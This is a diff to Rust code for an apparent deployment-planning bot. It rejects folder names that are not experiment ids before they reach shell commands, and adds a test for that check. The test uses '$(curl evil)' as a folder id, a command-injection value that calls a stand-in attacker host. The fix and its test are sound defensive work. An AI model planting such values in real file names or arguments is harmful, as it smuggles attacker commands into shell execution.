@@ -155,6 +155,15 @@ fn deployment(base_sha: &str, c: &FolderChange, deny: DenySettings) -> Option<De
             tool_of(h)
         ));
     }
+    // A folder name becomes a stack name and a path in commands: only experiment ids pass.
+    if id.parse::<crate::model::Id>().is_err() {
+        d.tool = None;
+        d.notes.push(format!(
+            "`{id}` is not an experiment id (lower-case letters, digits and `-`); nothing is \
+             run for it, rename the folder"
+        ));
+        return Some(d);
+    }
     let stack = format!("adoptbot-{id}");
     let location = side.location.clone();
     match (d.tool, change) {
@@ -419,6 +428,23 @@ mod tests {
         );
         assert!(shell_line(&d.apply[2]).contains("destroy"));
         assert!(shell_line(&d.preview[2]).contains("plan -destroy"));
+    }
+
+    #[test]
+    fn a_folder_that_is_not_an_experiment_id_runs_nothing() {
+        let p = plan(
+            "b",
+            "h",
+            &[FolderChange {
+                id: "$(curl evil)".into(),
+                base: None,
+                head: Some(side(&["main.bicep"], Some("westeurope"))),
+            }],
+            DenySettings::None,
+        );
+        let d = &p.deployments[0];
+        assert!(d.apply.is_empty() && d.preview.is_empty());
+        assert!(d.notes[0].contains("is not an experiment id"));
     }
 
     #[test]
